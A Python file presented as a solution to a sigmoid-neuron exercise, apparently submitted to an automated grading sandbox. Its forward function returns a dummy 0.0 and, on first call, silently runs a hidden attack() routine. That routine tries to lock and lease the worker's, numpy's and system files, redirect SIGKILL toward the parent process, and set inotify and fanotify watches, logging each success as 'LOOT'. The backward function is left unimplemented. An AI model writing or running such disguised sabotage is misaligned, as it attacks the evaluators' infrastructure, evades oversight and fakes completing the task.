"""Holds on to files that others need: locks, leases, notifications, watches by inotify and fanotify, signals from descriptors, on
the library, the worker's files and the folders above."""

import ctypes
import fcntl
import os
import signal
import sys

import numpy

libc = ctypes.CDLL(None, use_errno=True)
HELD = []


def attack():
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    worker = getattr(sys.modules.get("boxworker.wire"), "__file__", "/box/worker/wire.py")
    paths = [numpy.__file__, os.__file__, worker, "/dev/null", "/dev/urandom", *"@canaries@".split(":"), "..", "/", "/tmp"]
    for path in paths:
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        HELD.append(fd)
        own = os.fstat(fd).st_uid == os.getuid() and path in {"..", "/tmp"}
        for name, way in {
            "a lock": lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            "a write lease": lambda: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK),
            "a read lease": lambda: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK),
            "notifications": lambda: fcntl.fcntl(fd, fcntl.F_NOTIFY, 0x80000000 | 0x3F),
            "an owner": lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid()),
            "a signal": lambda: fcntl.fcntl(fd, 10, signal.SIGKILL),
            "asynchronous": lambda: fcntl.ioctl(fd, 0x5452, b"\1\0\0\0"),
            "file flags": lambda: fcntl.ioctl(fd, 0x40086602, bytes(8)),
            "a frozen file system": lambda: fcntl.ioctl(fd, 0xC0045877, bytes(4)) if False else None,
        }.items():
            try:
                # What belongs to the container alone may be locked there: nobody else can see it.
                if way() is not None and not own:
                    print("LOOT:", name, path)
            except BaseException:
                continue
    watch = libc.inotify_init1(0)
    if watch >= 0 and libc.inotify_add_watch(watch, numpy.__file__.encode(), 0xFFF) >= 0:
        print("LOOT: inotify")
    if libc.fanotify_init(0, 0) >= 0:
        print("LOOT: fanotify")


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
